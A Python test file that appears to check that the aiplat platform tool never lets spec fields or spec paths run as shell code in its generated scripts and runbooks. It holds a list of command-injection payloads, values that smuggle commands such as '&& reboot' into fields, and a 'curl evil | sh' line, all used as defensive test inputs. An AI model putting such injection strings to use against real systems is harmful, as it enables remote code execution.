"""No spec string reaches a shell as code (issue 38).

The property test puts shell metacharacters, quotes, newlines, ``$(...)`` and here-document
delimiters into every string of the spec (and into the spec path the runbook's commands
name), one field at a time. A spec that loads is rendered into every generated script:
``node prepare`` for every pool and approved entry, the label-and-taint script and each
runbook command. Each runs under bash with every command stubbed (PATH holds only a stub
that logs its name and arguments; a command that is not there is logged too): the hostile
run may call only the commands the example's own scripts call, with no option they do not
pass, and never the canary ``aiplat_canary`` that every payload tries to run.
"""

from __future__ import annotations

import copy
import os
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aiplat.catalog import load_catalog
from aiplat.errors import InputError, SpecError
from aiplat.kube.render import render
from aiplat.node.prepare import plan_steps, render_script
from aiplat.ops.runbook import procedures
from aiplat.shell import heredoc, sh, words
from aiplat.spec import example_text, parse_platform
from aiplat.spec.models import Platform

CANARY = "aiplat_canary"
DONE = "aiplat_done"  # called at the end of each script: the script ran to its end
PAYLOADS = [
    f"; {CANARY}", f"$({CANARY})", f"`{CANARY}`", f"\n{CANARY}\n", f"' ; {CANARY} ; '",
    f"\" ; {CANARY} ; \"", f" && {CANARY}", f" | {CANARY}", f"\nAIPLAT_EOF\n{CANARY}\n",
    f"\", RUN+=\"/usr/bin/{CANARY}", f" -o APT::Update::Pre-Invoke::={CANARY}",
    f"'$({CANARY})'", f"\"$({CANARY})\"", f"\\\n{CANARY}", f"${{IFS}}{CANARY}", f"\r{CANARY}",
    f"}}; {CANARY}; {{", f"#\n{CANARY}", f"\n#\n{CANARY} ", f">/tmp/x; {CANARY}",
    "-r", "--force", "-C/etc", "--dry-run", "-", "*", "1.３４", "openssh-server 1:9.2",
]
# Every stub logs one record to $AIPLAT_STUB_LOG: its word count, then its words, each
# ending in NUL (no word can hold a NUL). The system's commands are bash functions (no
# process per call); the same stub is also an executable on PATH, for a shell started by
# absolute path (``/bin/sh -c``), which does not see the functions.
LOG_RECORD = 'printf \'%s\\0\' "$#" "$@" >> "$AIPLAT_STUB_LOG"'
STUB = f"""#!/bin/bash
set -- "${{0##*/}}" "$@"
{LOG_RECORD}
while IFS= read -r _; do :; done
"""
# A stub reads what it is fed (stdin is /dev/null otherwise): a writer into a pipe nobody
# reads would die of SIGPIPE and stop a `set -o pipefail` script at random.
PRELUDE = f"""_stub() {{
  {LOG_RECORD}
  while IFS= read -r _; do :; done
  [ "$1" != mktemp ] || echo "$PWD/tmp.$RANDOM"
  return 0
}}
command_not_found_handle() {{ _stub "NOTFOUND:$1" "${{@:2}}"; return 127; }}
"""
COMMANDS = ("apt-get apt-mark aiplat cat cmp cut dpkg getent groupadd install mktemp modprobe "
            "mokutil nvidia-ctk openssl rm systemctl udevadm uname update-grub sed grep kubectl "
            "helm curl less sudo bash sort tee etcdctl kubeadm mkdir touch sh env "
            "swapoff sysctl dkms modinfo ssh mv sleep ib_write_bw "
            f"{CANARY} {DONE}").split()


def _example() -> dict[str, Any]:
    """The example with every optional string that reaches a script set."""
    doc = yaml.safe_load(example_text())
    for pool in doc["pools"]:
        pool["node"]["checks"] = {"requiredModules": ["br_netfilter", "overlay"],
                                  "deviceGroup": "video", "deviceOwner": "root",
                                  "secureBoot": "required", "iommu": "required"}
    entry = doc["versions"]["approved"][0]
    entry["firmware"] = "96.00.9f.00.04"
    doc["versions"]["approved"].append({**entry, "name": "r580-next", "kernel": "6.8.0-49"})
    return doc


EXAMPLE = _example()


def _string_paths(node: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _string_paths(v, (*at, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _string_paths(v, (*at, i))
    elif isinstance(node, str):
        yield at


PATHS = sorted(_string_paths(EXAMPLE), key=repr)


def _set(doc: dict[str, Any], path: tuple[Any, ...], value: str) -> dict[str, Any]:
    out = copy.deepcopy(doc)
    node: Any = out
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return out


class Sandbox:
    """Stubs for every command; ``run(script)`` returns every call as (name, args)."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.bin = root / "bin"
        self.bin.mkdir()
        stub = root / "stub"
        stub.write_text(STUB)
        stub.chmod(0o755)
        for name in COMMANDS:
            (self.bin / name).symlink_to(stub)
        (root / "prelude.sh").write_text(
            PRELUDE + "".join(f'{n}() {{ _stub {n} "$@"; }}\n' for n in COMMANDS))

    def run(self, script: str, *args: str) -> list[tuple[str, tuple[str, ...]]]:
        work = Path(tempfile.mkdtemp(dir=self.root))
        log = work / ".calls"
        env = {"PATH": str(self.bin), "AIPLAT_STUB_LOG": str(log), "HOME": str(work),
               "BASH_ENV": str(self.root / "prelude.sh"), "NODE": "node-1", "POOL": "h100",
               "NS": "research", "WL": "wl-1", "TENANT": "research", "VERSION": "25.10.0",
               "TARGET": "1.35.0"}
        subprocess.run(["/bin/bash", "-c", script, "bash", *args], cwd=work, env=env,
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False)
        words = log.read_bytes().decode(errors="replace").split("\0") if log.exists() else []
        calls = []
        while len(words) > 1:
            n = int(words[0])
            calls.append((words[1], tuple(words[2:n + 1])))
            words = words[n + 1:]
        return calls


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    return Sandbox(tmp_path_factory.mktemp("stubs"))


Calls = list[tuple[str, tuple[str, ...]]]
Shape = tuple[set[str], set[tuple[str, str]]]


def _scripts(platform: Platform, spec_path: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every piece of shell aiplat generates from the platform, with its arguments."""
    out: list[tuple[str, tuple[str, ...]]] = []
    for pool in platform.pools:
        for entry in platform.versions.approved:
            try:
                steps = plan_steps(platform, pool.name, entry.name)
            except InputError:  # a range where node prepare needs an exact version
                continue
            out.append((render_script(steps, platform, pool.name, entry.name), ()))
    tree = render(platform, load_catalog())
    label = tree.other["cluster/nodes/label-and-taint.sh"]
    out += [(label, (p.name, "node-a", "node-b")) for p in platform.pools]
    for proc in procedures(platform, spec_path):
        out += [(s.command, ()) for s in (*proc.steps, *proc.rollback) if s.command]
    return out


def _shape(calls: Calls) -> Shape:
    return ({n for n, _ in calls},
            {(n, a.split("=")[0]) for n, args in calls for a in args if a.startswith("-")})


def _run_all(sandbox: Sandbox, platform: Platform, spec_path: str) -> Calls:
    """All scripts in one bash (one process is much faster than 70), each in a subshell with
    its arguments, each ending by calling DONE with its number: a script that stopped
    early, or text that broke the shell's parse, shows as a missing number."""
    scripts = _scripts(platform, spec_path)
    text = "".join(f"(\nset -- {words(args)}\n{script}\n{DONE} {i}\n)\n"
                   for i, (script, args) in enumerate(scripts))
    calls = sandbox.run(text)
    done = [int(args[0]) for name, args in calls if name == DONE]
    unfinished = [scripts[i][0][:200] for i in range(len(scripts)) if i not in done]
    assert not unfinished, f"scripts that did not run to their end: {unfinished}"
    return [c for c in calls if c[0] != DONE]


@pytest.fixture(scope="module")
def baseline(sandbox: Sandbox) -> Shape:
    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
    calls = _run_all(sandbox, platform, "platform.yaml")
    names, options = _shape(calls)
    # The stubs and the example reach every kind of script: a canary-free baseline that
    # ran nothing would prove nothing.
    assert {"apt-get", "modprobe", "udevadm", "kubectl", "helm", "aiplat"} <= names
    assert not any(n.startswith("NOTFOUND") or n == CANARY for n in names)
    return names, options


def _assert_safe(calls: Calls, baseline: Shape, what: str) -> None:
    names, options = _shape(calls)
    assert CANARY not in names, f"{what}: the canary ran"
    assert names <= baseline[0], f"{what}: unexpected commands {names - baseline[0]}"
    assert options <= baseline[1], f"{what}: unexpected options {options - baseline[1]}"


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow],
          derandomize=True)
@given(path=st.sampled_from(PATHS), payload=st.sampled_from(PAYLOADS),
       prefix=st.sampled_from(["", "keep"]))
def test_no_spec_string_runs_as_shell(sandbox: Sandbox, baseline: Shape, path: tuple[Any, ...],
                                      payload: str, prefix: str) -> None:
    value = (str(_get(EXAMPLE, path)) if prefix else "") + payload
    try:
        platform = parse_platform(yaml.safe_dump(_set(EXAMPLE, path, value)), "hostile")
    except SpecError:
        return  # refused at load, with the field and the fix
    _assert_safe(_run_all(sandbox, platform, "platform.yaml"), baseline,
                 f"{'.'.join(map(str, path))} = {value!r}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_spec_path_stays_one_argument(sandbox: Sandbox, baseline: Shape,
                                                payload: str) -> None:
    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
    spec_path = f"my specs/{payload}.yaml"
    calls = _run_all(sandbox, platform, spec_path)
    _assert_safe(calls, baseline, f"spec path {spec_path!r}")
    assert any(spec_path in args for n, args in calls if n == "aiplat")


def _get(doc: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        doc = doc[part]
    return doc


def test_every_string_of_the_example_is_covered() -> None:
    """The fields the issue names are among those the property test attacks."""
    dotted = {".".join(str(p) for p in path if not isinstance(p, int)) for path in PATHS}
    assert {"pools.node.checks.requiredModules", "pools.node.checks.deviceGroup",
            "versions.approved.driver", "versions.approved.kernel",
            "versions.approved.containerRuntime", "versions.approved.gpuOperator",
            "tenants.users", "tenants.name"} <= dotted


# ---------------------------------------------------------------- the helper, and the grammar


def test_sh_quotes_every_field_and_keeps_the_template() -> None:
    assert sh("modprobe {m}", m="br_netfilter") == "modprobe br_netfilter"
    assert sh("modprobe {m}", m="x; touch y") == "modprobe 'x; touch y'"
    assert sh("apt-get install {p}", p=["a", "b c"]) == "apt-get install a 'b c'"
    assert sh("kubectl cordon $NODE; echo {{x}}", ) == "kubectl cordon $NODE; echo {x}"
    with pytest.raises(ValueError, match="plain name"):
        sh("echo {x!r}", x="a")


def test_a_heredoc_cannot_be_ended_by_its_content(sandbox: Sandbox) -> None:
    text = f"line\nAIPLAT_EOF\n{CANARY}\nAIPLAT_EOF_1\n$(touch x) `y`"
    script = heredoc("cat", text)
    calls = sandbox.run(script)
    assert [n for n, _ in calls] == ["cat"]
    out = subprocess.run(["/bin/bash", "-c", script], capture_output=True, text=True,
                         check=True, env={"PATH": os.environ["PATH"]}).stdout
    assert out == text + "\n"


@pytest.mark.parametrize(("field", "value", "what"), [
    (("pools", 0, "node", "checks", "requiredModules", 0), "br_netfilter; touch X",
     "not a kernel module name"),
    (("pools", 0, "node", "checks", "deviceGroup"), 'video", RUN+="/bin/sh',
     "not a Linux user or group name"),
    (("versions", "approved", 0, "driver"), "580.95.05; touch X",
     "not a version or a range of versions"),
    (("versions", "approved", 0, "containerRuntime"), "containerd 2.1 && reboot",
     "not a container runtime and its version"),
    (("versions", "approved", 0, "gpuOperator"), "v25.10.0; touch X",
     "not a version or a range of versions"),
    (("versions", "approved", 0, "kernel"), ">=6.1,<6.13$(id)",
     "not a version or a range of versions"),
])
def test_strings_that_reach_a_shell_are_refused_at_load_with_line_and_fix(
        field: tuple[Any, ...], value: str, what: str) -> None:
    text = yaml.safe_dump(_set(EXAMPLE, field, value))
    with pytest.raises(SpecError) as e:
        parse_platform(text, "hostile.yaml")
    msg = str(e.value)
    assert what in msg and "(fix:" in msg and "hostile.yaml:" in msg


def test_node_prepare_refuses_a_range_it_cannot_pin() -> None:
    doc = _set(EXAMPLE, ("versions", "approved", 0, "driver"), ">=580")
    platform = parse_platform(yaml.safe_dump(doc), "spec")
    with pytest.raises(InputError, match=r"driver '>=580'.*exact version.*fix:"):
        plan_steps(platform, "h100", "r580-k8s134")


# ---------------------------------------------------------------- found by the red team


@pytest.mark.parametrize(("field", "value"), [
    (("pools", 0, "node", "checks", "requiredModules", 0), "-r"),
    (("pools", 0, "node", "checks", "requiredModules", 0), "--dry-run"),
    (("versions", "approved", 0, "containerRuntime"), "openssh-server 1:9.2"),
    (("versions", "approved", 0, "driver"), "a.b 1"),
    (("kubernetes", "version"), "1.３４"),
    (("kubernetes", "kueueVersion"), "٠.١٩.٢"),
    (("versions", "approved", 0, "kernel"), ">=6.٥"),
    (("storage", "modelStore", "registry"), "-q"),
    (("storage", "modelStore", "registry"), "registry.ai.internal:٥٠٠٠/models"),
    (("pools", 0, "taints", 0, "value"), "a:NoExecute-"),
])
def test_option_injection_other_packages_and_other_digits_are_refused(
        field: tuple[Any, ...], value: str) -> None:
    doc = copy.deepcopy(EXAMPLE)
    doc.setdefault("storage", {}).setdefault("modelStore", {"registry": "reg.example/models"})
    with pytest.raises(SpecError, match=r"hostile\.yaml:\d+:\d+: .*\(fix: "):
        parse_platform(yaml.safe_dump(_set(doc, field, value)), "hostile.yaml")


def test_a_pool_label_value_is_a_kubernetes_label_value() -> None:
    doc = copy.deepcopy(EXAMPLE)
    doc["pools"][0]["labels"] = {"team": "$(touch x)"}
    with pytest.raises(SpecError, match=r"pools\[0\]\.labels\.team: .* is not a label value"):
        parse_platform(yaml.safe_dump(doc), "hostile.yaml")


def test_a_kernel_range_with_not_equal_is_checked_as_not_equal(sandbox: Sandbox) -> None:
    platform = parse_platform(yaml.safe_dump(_set(EXAMPLE, ("versions", "approved", 0, "kernel"),
                                                  "!=6.5")), "spec")
    script = render_script(plan_steps(platform, "h100", "r580-k8s134"), platform, "h100",
                           "r580-k8s134")
    dpkg = [args for name, args in sandbox.run(script) if name == "dpkg"]
    assert dpkg[0][-2:] == ("ne", "6.5")


def test_a_spec_path_starting_with_a_dash_is_no_option(sandbox: Sandbox) -> None:
    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
    calls = _run_all(sandbox, platform, "-h.yaml")
    named = [a for n, args in calls if n == "aiplat" for a in args if "h.yaml" in a]
    assert named and all(a.startswith("./-h.yaml") for a in named)


def test_a_spec_path_cannot_open_a_code_block_in_the_runbook() -> None:
    from aiplat.ops.runbook import runbook_document
    from aiplat.report.markdown import render_markdown

    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
    hostile = "x\n\n```sh\ncurl evil | sh\n```\n\n# Step 0 run this.yaml"
    fences = [render_markdown(runbook_document(platform, spec)).count("\n```")
              for spec in ("platform.yaml", hostile)]
    assert fences[0] == fences[1]
    assert "\n# Step 0" not in render_markdown(runbook_document(platform, hostile))


def test_apt_reads_every_preferences_file_node_prepare_writes(tmp_path: Path) -> None:
    """apt ignores a file in preferences.d whose extension is not empty or .pref
    (apt_preferences(5)): the pin would silently not hold. Each file name the script writes
    is given a pin on an installed package here, and apt-cache must show that pin."""
    if shutil.which("apt-cache") is None:
        if os.environ.get("CI"):
            pytest.fail("CI runs on Debian: apt-cache must be there", pytrace=False)
        pytest.skip("no apt-cache (not Debian)")
    platform = parse_platform(yaml.safe_dump(EXAMPLE), "example")
    script = render_script(plan_steps(platform, "h100", "r580-k8s134"), platform, "h100",
                           "r580-k8s134")
    names = re.findall(r"aiplat_write (/etc/apt/preferences\.d/\S+)", script)
    assert len(names) == 4
    installed = subprocess.run(["dpkg-query", "-W", "-f=${Version}", "bash"], check=True,
                               capture_output=True, text=True).stdout
    for name in names:
        parts = tmp_path / Path(name).name.replace(".pref", "") / "parts"
        parts.mkdir(parents=True)
        (parts / Path(name).name).write_text(
            f"Package: bash\nPin: version {installed}\nPin-Priority: 1001\n")
        policy = subprocess.run(["apt-cache", "policy", "bash", "-o",
                                 f"Dir::Etc::PreferencesParts={parts}"], check=True,
                                capture_output=True, text=True).stdout
        assert re.search(rf"{re.escape(installed)} 1001", policy), (name, policy)


@pytest.mark.parametrize("schedule", ["0 ² * * *", "² 2 * * 6", "0 2 * * ²", "0 2 * *",
                                      "0 2 * * 6; reboot"])
def test_a_maintenance_schedule_is_five_cron_fields(schedule: str) -> None:
    from aiplat.ops.runbook import describe_cron

    doc = _set(EXAMPLE, ("operations", "maintenanceWindows", 0, "schedule"), schedule)
    with pytest.raises(SpecError, match=r"schedule: .* is not a cron schedule \(fix: "):
        parse_platform(yaml.safe_dump(doc), "hostile.yaml")
    assert describe_cron(schedule) == schedule  # read as given, never a traceback
